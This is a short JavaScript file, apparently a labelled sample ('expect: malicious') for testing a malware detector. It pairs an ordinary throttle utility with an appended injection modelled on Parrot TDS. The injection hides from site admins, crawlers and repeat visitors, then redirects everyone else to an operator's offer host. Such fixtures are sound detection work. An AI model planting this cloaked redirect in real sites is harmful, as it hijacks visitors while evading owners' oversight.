// expect: malicious
// source: Parrot TDS / back-button hijack injections appended to front-end libraries (2023-2025 reports):
// on load, skip site admins, crawlers and repeat visitors, then send the rest to the operator's offer.
export function throttle(fn, ms) {
  let last = 0;
  return (...args) => { const now = Date.now(); if (now - last >= ms) { last = now; fn(...args); } };
}

(function () {
  var n = navigator, d = document;
  if (/wp-admin|\/admin/.test(location.pathname)) return;
  if (/bot|crawl|spider|headless/i.test(n.userAgent) || n.webdriver) return;
  if (d.cookie.indexOf('_tv=') > -1) return;
  d.cookie = '_tv=1; max-age=604800; path=/';
  setTimeout(function () { location.replace('https://offer.tds-hop.example/go?c=41'); }, 900);
})();
